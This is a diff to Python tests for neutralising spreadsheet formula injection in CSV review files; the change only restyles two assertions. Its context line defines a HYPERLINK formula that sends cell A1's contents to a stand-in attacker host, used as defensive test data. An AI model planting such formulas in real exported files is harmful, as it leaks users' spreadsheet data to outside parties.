@@ -22,7 +22,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 def test_neutralise_then_restore_is_exact(text):
     safe = neutralise(text)
     assert restore(safe) == text
-    assert not safe[:1] in ("=", "+", "-", "@", "\t", "\r")
+    assert safe[:1] not in ("=", "+", "-", "@", "\t", "\r")
 
 
 def _with_formula_sentence(spec):
@@ -44,7 +44,7 @@ def test_review_csv_cells_are_neutralised_and_read_back_exactly(tmp_path):
     assert cell == "'" + FORMULA + " the patient achieved CR"
     for row in raw:
         for value in row.values():
-            assert not value[:1] in ("=", "+", "-", "@", "\t", "\r"), value
+            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
     sheet = read_sheet(path, ("evidence_id", "decision"))
     back = next(r for _, r in sheet.rows if r["evidence_id"] == target)
     assert back["sentence"] == FORMULA + " the patient achieved CR"
